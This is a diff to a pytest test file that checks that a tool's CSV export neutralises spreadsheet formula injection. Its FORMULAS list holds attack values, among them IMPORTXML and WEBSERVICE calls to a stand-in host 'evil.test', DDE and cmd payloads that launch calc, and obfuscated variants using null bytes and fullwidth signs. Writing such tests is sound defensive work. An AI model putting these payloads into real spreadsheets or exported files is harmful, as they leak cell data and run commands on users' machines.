@@ -15,6 +15,7 @@ from pathlib import Path
 import pytest
 
 from search.engine.records import AttemptRecord, StudyRecord
+from search.errors import printable
 from search.report import build_report, export_csv, figure_html
 from search.study.space import Choice, FloatRange
 from tests.report.records import START, study, trial
@@ -186,13 +187,15 @@ FORMULAS = [
     *("=IMPORTXML(CONCAT(\"http://evil.test\",A1),\"//a\")", '=WEBSERVICE("http://evil.test")'),
     *("+1+1", "+cmd|'/C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "--1", "-A1", "+A1", "=A1"),
     *("@SUM(1+1)", "@cmd|'/C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t+1", "\r@x"),
+    *("\0=1+1", "\x1b=1+1", "\uff1d1+1", "\uff0b1", "x;=1+1", "x; @SUM(1)"),
     *('="a"', "='a'", '=";=1', "=1,2", "=1;2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=\u00a01", "="),
 ]  # fmt: skip
-STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "\uff1d", "\uff0b")
 
 
-def one_line(text: str) -> str:
-    return " ".join(text.split())
+def readable(text: str) -> str:
+    """What of a text is the same in a cell, however it is kept from being a formula."""
+    return printable(" ".join(text.split())).replace("'", "")
 
 
 def is_number(text: str) -> bool:
@@ -214,6 +217,8 @@ def test_csv_holds_no_formula(formula: str, before: str) -> None:
     assert len(table) == 10
     assert {len(row) for row in table} == {len(table[0])}
     cells = [cell for row in table for cell in row]
-    assert [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)] == []
-    assert any(one_line(cell).endswith(one_line(before + formula)) for cell in cells)
+    # a semicolon separates cells in many countries
+    parts = [part.strip(" ") for cell in cells for part in cell.split(";")]
+    assert [part for part in parts if part.startswith(STARTS) and not is_number(part)] == []
+    assert any(readable(cell).endswith(readable(before + formula)) for cell in cells)
     assert table[-1][2] == "-1.5"
